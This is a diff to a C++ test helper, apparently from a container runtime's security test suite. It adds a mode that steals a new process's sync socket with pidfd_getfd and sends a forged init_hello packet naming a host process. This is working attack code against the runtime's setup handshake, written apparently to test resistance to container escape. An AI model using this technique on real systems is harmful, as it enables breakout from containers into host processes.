@@ -7,8 +7,16 @@
 // root (a marker file only the container's rootfs has) and its capabilities.
 // It prints what it did: "target PID", "mem: wrote N bytes at ADDR" or the
 // error that stopped it.
+//
+// `exec-hijack hello PID` attacks the runtime instead: it takes the new
+// process's sync socket to the runtime (pidfd_getfd, which CAP_SYS_PTRACE
+// allows without a user namespace) and sends on it an init_hello naming PID
+// (a host process), before the exec stage names the process. It prints
+// "hello: sent naming PID" or the error that stopped it.
 #include <dirent.h>
 #include <fcntl.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 #include <cerrno>
@@ -79,7 +87,76 @@ int wait_gone(long target, int code) {
     return code;
 }
 
-int main() {
+// runtime/lifecycle/sync.hpp's Packet and Msg::init_hello, as the
+// runtime reads them.
+struct Packet {
+    unsigned type;
+    int value;
+    char text[2048];
+    int sender, fd;
+};
+constexpr unsigned kInitHello = 4;
+
+// The sync socket among `target`'s fds (a SOCK_SEQPACKET one), or -1.
+int steal_sync_socket(long target) {
+    int pidfd = static_cast<int>(syscall(SYS_pidfd_open, target, 0));
+    if (pidfd < 0) {
+        std::printf("hello: pidfd_open: %s\n", std::strerror(errno));
+        return -1;
+    }
+    int err = 0;
+    for (int fd = 0; fd < 64; fd++) {
+        int got = static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, fd, 0));
+        if (got < 0) {
+            if (errno != EBADF) err = errno;
+            continue;
+        }
+        int type = 0;
+        socklen_t len = sizeof type;
+        if (getsockopt(got, SOL_SOCKET, SO_TYPE, &type, &len) == 0 && type == SOCK_SEQPACKET) {
+            close(pidfd);
+            return got;
+        }
+        close(got);
+    }
+    close(pidfd);
+    std::printf("hello: no sync socket taken (%s)\n", err ? std::strerror(err) : "none");
+    return -1;
+}
+
+int send_hello(long victim) {
+    std::set<long> before = pids();
+    std::printf("watching\n");
+    std::fflush(stdout);
+    long target = 0;
+    for (int i = 0; i < 60000 && !target; i++) {
+        for (long p : pids())
+            if (!before.count(p) && p != getpid()) target = p;
+        if (!target) sleep_ms(1);
+    }
+    if (!target) {
+        std::printf("no new process\n");
+        return 1;
+    }
+    std::printf("target %ld\n", target);
+    int sock = steal_sync_socket(target);
+    if (sock >= 0) {
+        Packet p{};
+        p.type = kInitHello;
+        p.value = static_cast<int>(victim);
+        if (send(sock, &p, sizeof p, MSG_NOSIGNAL) == static_cast<ssize_t>(sizeof p))
+            std::printf("hello: sent naming %ld\n", victim);
+        else
+            std::printf("hello: send: %s\n", std::strerror(errno));
+        close(sock);
+    }
+    std::fflush(stdout);
+    return wait_gone(target, 0);
+}
+
+int main(int argc, char **argv) {
+    if (argc == 3 && std::strcmp(argv[1], "hello") == 0)
+        return send_hello(std::strtol(argv[2], nullptr, 10));
     std::set<long> before = pids();
     std::printf("watching\n");
     std::fflush(stdout);
